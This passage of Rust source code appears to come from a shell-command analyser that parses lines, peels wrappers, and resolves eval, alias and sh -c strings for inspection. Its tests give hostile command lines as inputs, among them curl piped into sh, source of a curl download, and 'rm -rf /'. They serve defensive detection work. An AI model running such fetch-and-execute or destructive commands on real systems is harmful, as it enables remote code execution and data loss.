                .filter(|w| w.1.assignable)
                .and_then(|w| assignment(&w.0))
            {
                env.push((k, v));
                i += 1;
            }
            let mut argv: Vec<String> = words[i..].iter().map(|w| w.0.clone()).collect();
            let mut expands: Vec<bool> = words[i..].iter().map(|w| w.1.expands).collect();
            if argv.is_empty() {
                // `NAME=value` alone assigns a shell variable.
                assigned.extend(env.iter().cloned());
            } else if matches!(
                argv[0].as_str(),
                "export" | "declare" | "typeset" | "local" | "readonly"
            ) {
                assigned.extend(argv[1..].iter().filter_map(|a| assignment(a)));
            }
            // A program name the line itself spells out, behind a variable
            // it assigned (`PY=python3; $PY -c …`) or a look-up of a
            // literal name (`$(command -v python3)`, `` `which perl` ``),
            // is that program; any other built name stays unresolved.
            if let Some(p) = argv
                .first()
                .filter(|_| expands.first().copied().unwrap_or(false))
                .and_then(|p0| resolve_program(p0, &assigned))
            {
                argv[0] = p;
                expands[0] = false;
            }
            let mut wrappers = Vec::new();
            // What a wrapper's own options run (`strace -o '|CMD'`).
            let mut wrapper_commands = Vec::new();
            while let Some((w, skip)) = peel_wrapper(&argv, &mut env) {
                wrapper_commands.extend(
                    crate::run_options::option_commands(&w, &argv[..skip], &[], None).commands,
                );
                wrappers.push(w);
                argv = argv[skip..].to_vec();
                expands = expands.get(skip..).unwrap_or_default().to_vec();
                if wrappers.len() > 16 {
                    break;
                }
            }
            // `sh -c 'string'` and `eval string` run a shell string.
            let base = argv
                .first()
                .map(|p| p.rsplit('/').next().unwrap_or(p).to_string())
                .unwrap_or_default();
            // The text this command reads on its input, where the line
            // spells it out: a here-document, a here-string, `echo … |`.
            let fed = heredocs
                .first()
                .cloned()
                .or_else(|| {
                    redirects
                        .iter()
                        .find(|r| r.op == "<<<")
                        .map(|r| (r.target.clone(), r.expands))
                })
                .or_else(|| piped_text.take());
            let stdin_expands = fed.as_ref().is_some_and(|f| f.1);
            let stdin = fed.map(|f| f.0);
            piped_text = if matches!(base.as_str(), "echo" | "printf") {
                Some((
                    argv[1..]
                        .iter()
                        .filter(|a| !a.starts_with('-'))
                        .cloned()
                        .collect::<Vec<_>>()
                        .join(" "),
                    expands.iter().skip(1).any(|e| *e),
                ))
            } else if base == "tee" || (base == "cat" && argv.len() == 1) {
                // `tee FILE` and a bare `cat` pass their input on.
                stdin.clone().map(|t| (t, stdin_expands))
            } else {
                None
            };
            let mut shell_string = None;
            // A script read from a stream other than the input.
            let mut script_unknown = false;
            // `bash /dev/stdin`, `. /proc/self/fd/0`: the input is the
            // script; another descriptor's text is not on the line.
            let mut script_at = |path: &str, shell_string: &mut Option<String>| {
                match crate::streams::stream(path) {
                    Some(crate::streams::Stream::Stdin) => *shell_string = stdin.clone(),
                    Some(crate::streams::Stream::Unknown) => script_unknown = true,
                    None => {}
                }
            };
            if SHELLS.contains(&base.as_str()) {
                let mut j = 1;
                let mut reads_stdin = true;
                while let Some(a) = argv.get(j) {
                    if a == "-c" || (a.starts_with('-') && !a.starts_with("--") && a.contains('c'))
                    {
                        // `sh -c -- CMD`: `--` ends the options, CMD follows.
                        let at = if argv.get(j + 1).is_some_and(|n| n == "--") {
                            j + 2
                        } else {
                            j + 1
                        };
                        shell_string = argv.get(at).cloned();
                        // `xargs sh -c`: the string comes from the input.
                        script_unknown |= shell_string.is_none();
                        break;
                    }
                    if a == "-s" {
                        break;
                    }
                    if matches!(a.as_str(), "--rcfile" | "--init-file") {
                        if let Some(file) = argv.get(j + 1) {
                            script_at(file, &mut shell_string);
                        }
                        j += 2;
                        continue;
                    }
                    if SHELL_VALUE_OPTIONS.contains(&a.as_str()) {
                        j += 2;
                        continue;
                    }
                    // `+e`, `+o pipefail`: options turned off, not a script.
                    if a.len() > 1 && a.starts_with('+') {
                        j += if a == "+o" || a == "+O" { 2 } else { 1 };
                        continue;
                    }
                    if !a.starts_with('-') {
                        reads_stdin = false;
                        script_at(a, &mut shell_string);
                        break;
                    }
                    j += 1;
                }
                // `bash <<EOF … EOF` and `echo … | sh` run their input.
                if shell_string.is_none() && reads_stdin {
                    shell_string = stdin.clone();
                }
            } else if base == "eval" {
                // `eval "$(ssh-agent -s)"`: the shell settings a known
                // environment tool prints are its own fixed code; the tool
                // itself is judged as the substitution's command.
                if !(argv.len() == 2 && setup_eval(&argv[1])) {
                    shell_string = Some(argv[1..].join(" "));
                }
            } else if base == "alias" {
                // `alias NAME='TEXT'`: TEXT runs wherever NAME is used
                // (`shopt -s expand_aliases` makes that this very line).
                let bodies: Vec<&str> = argv[1..]
                    .iter()
                    .filter_map(|a| a.split_once('=').map(|(_, v)| v))
                    .filter(|v| !v.trim().is_empty())
                    .collect();
                if !bodies.is_empty() {
                    shell_string = Some(bodies.join("\n"));
                }
            } else if base == "hash" && argv.get(1).is_some_and(|a| a == "-p") {
                // `hash -p PATH NAME`: NAME runs PATH from now on, judged
                // as running it.
                shell_string = argv
                    .get(2)
                    .map(|p| compass_core::shell_quote::quote_argv(std::slice::from_ref(p)));
            } else if base == "coproc" {
                // `coproc [NAME] CMD`: CMD runs with its input a pipe the
                // line writes to later. A shell or an interpreter given no
                // code of its own runs whatever is written there.
                let rest: Vec<String> = match argv.get(2) {
                    Some(b) if b == "{" => argv[3..].to_vec(),
                    _ => argv[1..].to_vec(),
                };
                if let Some(program) = rest.first() {
                    let p = program.rsplit('/').next().unwrap_or(program);
                    let no_code = rest.len() == 1
                        || rest[1..]
                            .iter()
                            .all(|a| a.starts_with('-') && a != "-c" && a != "-e");
                    if (SHELLS.contains(&p) || crate::code_strings::is_code_interpreter(p))
                        && no_code
                    {
                        script_unknown = true;
                    } else {
                        shell_string = Some(compass_core::shell_quote::quote_argv(&rest));
                    }
                }
            } else if base == "trap" {
                // `trap 'STRING' SIGNAL…`: STRING runs when the signal
                // (or the shell's exit) comes.
                let action = argv.get(1).filter(|a| *a == "--").map_or(1, |_| 2);
                if argv.len() > action + 1 && argv[action] != "-" {
                    shell_string = argv.get(action).cloned();
                }
            } else if matches!(base.as_str(), "source" | ".")
                && let Some(file) = argv.get(1)
            {
                script_at(file, &mut shell_string);
            }
            // An env line read wrongly could hide what it runs.
            let mut env_unknown = false;
            if base == "env" {
                match env_line(&argv) {
                    EnvLine::Split(line) => shell_string = Some(line),
                    EnvLine::NotUnderstood => env_unknown = true,
                    EnvLine::Runs { .. } | EnvLine::Lists => {}
                }
            }
            // Commands inside interpreter code (`awk system()`, `python -c
            // os.system()`, decoded payloads, code read from the input) are
            // shell strings too; those folded from pieces are judged only
            // when they parse.
            let mut inline = crate::code_strings::inline_code(&base, &argv, stdin.as_deref());
            // Interpreter code holding a shell expansion is built when the
            // line runs: folded when it names only what the line assigns
            // (or the home and such), held otherwise.
            if let Some(k) = crate::code_strings::code_word(&base, &argv)
                && expands.get(k).copied().unwrap_or(false)
            {
                match expand_known(&argv[k], &assigned) {
                    Some(code) => {
                        let mut spelled = argv.clone();
                        spelled[k] = code;
                        inline =
                            crate::code_strings::inline_code(&base, &spelled, stdin.as_deref());
                    }
                    None => inline.facts.unresolved = true,
                }
            }
            // Code an interpreter reads from text the shell expands first.
            if stdin_expands
                && crate::code_strings::reads_input(&base, &argv)
                && let Some(text) = &stdin
            {
                match expand_known(text, &assigned) {
                    Some(code) => {
                        inline = crate::code_strings::inline_code(&base, &argv, Some(&code));
                    }
                    None => inline.facts.unresolved = true,
                }
            }
            inline.facts.unresolved |= env_unknown || script_unknown;
            // Command lines other programs run from their options, input
            // or environment (gdb `-ex 'shell …'`, `tar --to-command`,
            // `LESSOPEN`, …) are shell strings too.
            let hooked = crate::run_options::option_commands(&base, &argv, &env, stdin.as_deref());
            inline.commands.extend(hooked.commands);
            inline.commands.extend(wrapper_commands);
            inline.facts.unresolved |= hooked.unresolved;
            out.commands.push(SimpleCommand {
                argv,
                env,
                wrappers,
                redirects,
                pipeline,
                stage,
                stages: n,
                origin,
                heredocs: heredocs.into_iter().map(|h| h.0).collect(),
                stdin,
                stdin_expands,
                expands: expands.clone(),
                code: inline.facts,
            });
            for s in shell_string.into_iter().chain(inline.commands) {
                parse_into(&s, Origin::ShellString, depth + 1, out, pipeline_counter)?;
            }
            for s in inline.folded {
                let mut folded = CommandLine::default();
                let mut counter = *pipeline_counter;
                if parse_into(
                    &s,
                    Origin::ShellString,
                    depth + 1,
                    &mut folded,
                    &mut counter,
                )
                .is_ok()
                {
                    out.commands.extend(folded.commands);
                    *pipeline_counter = counter;
                }
            }
        }
    }
    for s in subs {
        parse_into(&s, Origin::Substitution, depth + 1, out, pipeline_counter)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use compass_core::shell_quote::quote_argv;

    fn progs(line: &str) -> Vec<String> {
        parse(line)
            .map(|c| c.commands.iter().map(|c| c.program().to_string()).collect())
            .unwrap_or_default()
    }

    #[test]
    fn program_names_the_line_spells_out_are_resolved() {
        let last = |line: &str| progs(line).last().cloned().unwrap_or_default();
        assert_eq!(last("PY=python3; $PY -c 'print(1)'"), "python3");
        assert_eq!(last("p=/usr/bin/pyt; ${p}hon3 x.py"), "python3");
        assert_eq!(last("$(command -v python3) --version"), "python3");
        let which = progs("`which perl` -e 1");
        assert!(which.contains(&"perl".to_string()), "{which:?}");
        assert!(
            !which.iter().any(|p| p.starts_with(['$', '`'])),
            "{which:?}"
        );
        // Not spelled out: stays built at run time.
        assert_eq!(last("$PY -c 1"), "$PY");
        assert!(
            progs("$(curl -s x) -c 1")
                .iter()
                .any(|p| p.starts_with('$'))
        );
        assert_eq!(last("X='a b'; $X"), "$X");
    }

    #[test]
    fn eval_of_a_known_environment_tool_runs_only_the_tool() {
        let built = |line: &str| progs(line).iter().any(|p| p.starts_with('$'));
        assert!(!built("eval \"$(ssh-agent -s)\""));
        assert!(progs("eval \"$(ssh-agent -s)\"").contains(&"ssh-agent".to_string()));
        // Anything else evaluated is a shell string, built at run time.
        assert!(built("eval \"$(curl -s x)\""));
        assert!(built("eval \"$(ssh-agent -s; curl x)\""));
    }

    #[test]
    fn aliases_and_exec_options_run_what_they_name() {
        assert!(progs("alias up='curl -s x | sh'; up").contains(&"curl".to_string()));
        assert_eq!(progs("exec -a kworker bash -c id"), ["bash", "id"]);
    }

    #[test]
    fn splits_on_operators_and_pipes() {
        assert_eq!(
            progs("cd app && make; ls | wc -l || true"),
            ["cd", "make", "ls", "wc", "true"]
        );
        let c = parse("curl -s https://x | sh").unwrap();
        assert_eq!(c.commands[0].stages, 2);
        assert_eq!(c.commands[1].stage, 1);
        assert_eq!(c.commands[1].program(), "sh");
    }

    #[test]
    fn quotes_keep_operators_as_data() {
        let c = parse(r#"echo "a && b | c" 'x;y' z\;w"#).unwrap();
        assert_eq!(c.commands.len(), 1);
        assert_eq!(c.commands[0].argv, ["echo", "a && b | c", "x;y", "z;w"]);
    }

    #[test]
    fn env_options_are_read_once_for_the_command_and_the_split_string() {
        let words = |line: &str| line.split(' ').map(String::from).collect::<Vec<_>>();
        for line in [
            "env -u FOO -S X",
            "env -C /tmp -S X",
            "env -iS X",
            "env -uFOO -vS X",
        ] {
            assert_eq!(
                env_line(&words(line)),
                EnvLine::Split("env X".into()),
                "{line}"
            );
        }
        assert_eq!(
            env_line(&words("env -iu FOO --chdir /tmp A=1 git push")),
            EnvLine::Runs {
                at: 6,
                assigned: vec![("A".into(), "1".into())]
            }
        );
        assert_eq!(env_line(&words("env -u FOO")), EnvLine::Lists);
        for line in ["env --split X", "env -x git", "env -S", "env --null=1 git"] {
            assert_eq!(env_line(&words(line)), EnvLine::NotUnderstood, "{line}");
        }
        let c = parse("env -iS 'sh -c id'").unwrap();
        assert_eq!(c.commands.last().unwrap().argv, ["id"]);
        assert!(
            parse("env --split 'sh -c id'").unwrap().commands[0]
                .code
                .unresolved
        );
    }

    #[test]
    fn peels_wrappers_and_env_prefixes() {
        let c = parse("FOO=1 sudo -u root env -i BAR=2 nohup timeout 5 git push -f").unwrap();
        let cmd = &c.commands[0];
        assert_eq!(cmd.argv, ["git", "push", "-f"]);
        assert_eq!(cmd.wrappers, ["sudo", "env", "nohup", "timeout"]);
        assert_eq!(
            cmd.env,
            [("FOO".into(), "1".into()), ("BAR".into(), "2".into())]
        );
    }

    #[test]
    fn parses_substitutions_and_shell_strings() {
        let p = progs(r#"bash -c "$(curl -fsSL https://x/y.sh)""#);
        assert_eq!(p[0], "bash");
        assert!(
            p.contains(&"$(…)".to_string()) && p.contains(&"curl".to_string()),
            "{p:?}"
        );
        assert_eq!(progs("echo `whoami` $(id -u)"), ["echo", "whoami", "id"]);
        assert_eq!(progs("sh -c 'rm -rf / && echo done'"), ["sh", "rm", "echo"]);
        assert_eq!(progs("(cd /tmp && ./m)"), ["cd", "m"]);
        assert_eq!(progs("source <(curl -s https://x)"), ["source", "curl"]);
        assert!(progs("eval \"$(base64 -d <<< aGk=)\"").contains(&"base64".to_string()));
    }

    #[test]
    fn heredocs_are_data_and_redirects_recorded() {
        let c = parse("cat > a.txt <<EOF\nrm -rf /\nEOF\necho ok 2>&1 >/dev/null").unwrap();
        assert_eq!(c.commands.len(), 2);
        assert_eq!(c.commands[0].heredocs, ["rm -rf /\n"]);
        assert_eq!(c.commands[0].redirects[0].target, "a.txt");
        assert_eq!(c.commands[1].redirects.len(), 2);
    }

    #[test]
    fn errors_are_reported_not_panics() {
        assert_eq!(parse("echo 'abc"), Err(ShellError::UnterminatedQuote('\'')));
        assert_eq!(
            parse("echo $(ls"),
            Err(ShellError::UnterminatedSubstitution)
        );
        let deep = "sh -c ".repeat(3) + &"$(".repeat(20);
        assert!(parse(&deep).is_err());
    }

    proptest::proptest! {
        #[test]
        fn never_panics_on_arbitrary_input(s in "\\PC{0,200}") {
            let _ = parse(&s);
        }

        #[test]
        fn quote_argv_round_trips(argv in proptest::collection::vec("[a-zA-Z][a-zA-Z0-9 ;|&()$`'\"<>_.=-]{0,12}", 1..6)) {
            let parsed = parse(&quote_argv(&argv)).unwrap();
            let first = &parsed.commands[0];
            // Wrappers (sudo, env, …) are peeled; compare the full argv
            // when the program is not one.
            // Reserved words and headers (`do`, `for`) are grammar, not programs.
            let grammar = RESERVED.contains(&argv[0].as_str()) || HEADERS.contains(&argv[0].as_str());
            if first.wrappers.is_empty() && !grammar && !["sh","bash","eval","zsh","dash","ksh","ash","fish","busybox","trap"].contains(&argv[0].as_str()) {
                proptest::prop_assert_eq!(&first.argv, &argv);
            }
        }

        #[test]
        fn quoted_words_round_trip(words in proptest::collection::vec("[a-zA-Z0-9 ;|&()$`'<>_.-]{1,12}", 1..6)) {
            // Single-quote each word (escaping embedded single quotes) and
            // the parser must give the words back as one command.
            let line = words
                .iter()
                .map(|w| format!("'{}'", w.replace('\'', r"'\''")))
                .collect::<Vec<_>>()
                .join(" ");
            let parsed = parse(&format!("printf {line}")).unwrap();
            let first = &parsed.commands[0];
            proptest::prop_assert_eq!(&first.argv[1..], &words[..]);
        }
    }
}
